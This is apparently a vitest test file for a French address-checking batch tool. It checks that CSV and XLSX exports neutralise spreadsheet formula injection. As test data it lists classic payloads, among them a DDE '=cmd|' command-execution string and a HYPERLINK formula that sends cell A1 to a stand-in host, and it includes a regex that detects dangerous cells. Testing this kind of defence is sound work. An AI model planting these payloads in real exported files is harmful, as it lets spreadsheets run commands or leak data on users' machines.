// D4 — CSV / formula injection (OWASP « CSV Injection »): no exported cell starts with `=`, `+`, `-`, `@`, tab or CR
// unless neutralised by a leading apostrophe; plain numbers (`-3`, `-12,5`, `+33612345678`) stay numbers (README).
// Checked on the CLI and the browser path, for CSV and XLSX inputs, with the classic payloads.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadBatchDataFromDisk, main } from '../../scripts/check-addresses.ts';
import { checkRows } from '../../src/domain/batch/check-rows.ts';
import { describeColumns } from '../../src/domain/batch/column-mapping.ts';
import { type BatchData, createDomainRowChecker } from '../../src/domain/batch/domain-row-checker.ts';
import { buildRowCsv, buildSummaryCsv, csvLine } from '../../src/domain/batch/export.ts';
import { neutraliseCell } from '../../src/domain/batch/neutralise.ts';
import { readInputTable } from '../../src/domain/batch/read-input.ts';
import { summarise } from '../../src/domain/batch/summary.ts';
import { makeXlsx } from '../fixtures/batch/make-xlsx.ts';

const dir = mkdtempSync(join(tmpdir(), 'neutralise-'));
let data: BatchData;
beforeAll(() => {
  data = loadBatchDataFromDisk();
}, 60_000);
afterAll(() => rmSync(dir, { recursive: true, force: true }));

// The rule, written here independently of src/domain/batch/neutralise.ts.
const DANGEROUS = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(?:[.,]\d+)?$/;

/** Every cell of an exported CSV that a spreadsheet would run as a formula. */
function liveCells(csv: string, delimiter: string): string[] {
  const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter, skipEmptyLines: true }).data;
  return rows.flat().filter((cell) => DANGEROUS.test(cell) && !PLAIN_NUMBER.test(cell));
}

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez")',
  '@SUM(1)',
  '+33 6 12 34 56 78',
  '-2+3',
  '\t=1+1',
  '\r=2+2',
];

describe('neutraliseCell', () => {
  it.each(PAYLOADS)('préfixe %j d’une apostrophe, sans rien perdre', (payload) => {
    expect(neutraliseCell(payload)).toBe(`'${payload}`);
  });
  it.each(['-3', '-12,5', '+33612345678', '3.5', 'Rue Blanche', "'=déjà neutralisé", ''])(
    'laisse %j tel quel',
    (value) => {
      expect(neutraliseCell(value)).toBe(value);
    },
  );
  it('s’applique à chaque cellule d’une ligne CSV', () => {
    expect(csvLine(['=1+1', '-3', '@A'], ';')).toBe("'=1+1;-3;'@A\r\n");
  });
});

async function cliExport(input: string): Promise<string> {
  // Written in a temporary folder: tests never write next to their fixtures.
  const output = join(mkdtempSync(join(tmpdir(), 'perimetre-neutralise-')), `${basename(input)}.sortie.csv`);
  const lines: string[] = [];
  const status = await main(
    [input, '-o', output, '--utf8'],
    (line) => lines.push(line),
    () => data,
  );
  expect(status, lines.join('\n')).toBe(0);
  return readFileSync(output, 'utf8');
}

async function browserExport(bytes: Uint8Array): Promise<string> {
  const table = await readInputTable(bytes);
  const { mapping } = describeColumns(table);
  const verdicts = (await checkRows(table.rows, mapping, createDomainRowChecker(data)))!;
  return buildRowCsv(table, verdicts, { delimiter: ';', minimise: false, mapping });
}

describe('aucune cellule exportée ne démarre une formule', () => {
  it('CSV en entrée (fixture formules.csv) : CLI et navigateur', async () => {
    const input = 'tests/fixtures/batch/in/formules.csv';
    const cli = await cliExport(input);
    const browser = await browserExport(new Uint8Array(readFileSync(input)));
    for (const csv of [cli, browser]) {
      expect(liveCells(csv, ';')).toEqual([]);
      const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ';' }).data;
      expect(cells[1]?.slice(0, 6)).toEqual([
        "'=cmd|' /C calc'!A0",
        '12 Rue Blanche',
        '59170',
        'Croix',
        "'+33 6 12 34 56 78",
        '-3',
      ]);
      expect(cells[2]?.[0]).toBe(`'=HYPERLINK("http://exemple.invalid/";"cliquez")`);
      expect(cells[2]?.slice(4, 6)).toEqual(['+33612345678', "'@SUM(1)"]);
      expect(cells[3]?.[0]).toBe("'\t=1+1");
      expect(cells[3]?.slice(4, 6)).toEqual(["'\r=2+2", '-12,5']);
    }
  });

  it('XLSX en entrée (tabulation puis =1+1, HYPERLINK, @, +, -) : CLI et navigateur', async () => {
    const rows = [
      ['Bénéficiaire', 'Adresse', 'Code postal', 'Commune', 'Note'],
      ['\t=1+1', '12 Rue Blanche', 59170, 'Croix', '=HYPERLINK("http://exemple.invalid";"x")'],
      ['@SUM(1)', '5 Rue du Tonkin', 59170, 'Croix', -3],
      // Excel writes a carriage return in a string as `_x000D_`.
      ['+1+1', '43 Rue Paul Lafargue', 59170, 'Croix', '_x000D_=3+3'],
    ];
    const bytes = makeXlsx(rows);
    const input = join(dir, 'formules.xlsx');
    writeFileSync(input, bytes);
    for (const csv of [await cliExport(input), await browserExport(bytes)]) {
      expect(liveCells(csv, ';')).toEqual([]);
      const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ';' }).data;
      expect(cells[1]?.[0]).toBe("'\t=1+1");
      expect(cells[1]?.[4]).toBe(`'=HYPERLINK("http://exemple.invalid";"x")`);
      expect(cells[2]?.[0]).toBe("'@SUM(1)");
      expect(cells[2]?.[4]).toBe('-3');
      expect(cells[3]?.[0]).toBe("'+1+1");
      expect(cells[3]?.[4]).toBe("'\r=3+3");
    }
  });

  it('la synthèse non plus', () => {
    const csv = buildSummaryCsv(summarise([]), { geographyVersion: 'QP 2024', date: new Date(0) }, ';');
    expect(liveCells(csv.split('\r\n').slice(1).join('\r\n'), ';')).toEqual([]);
  });
});
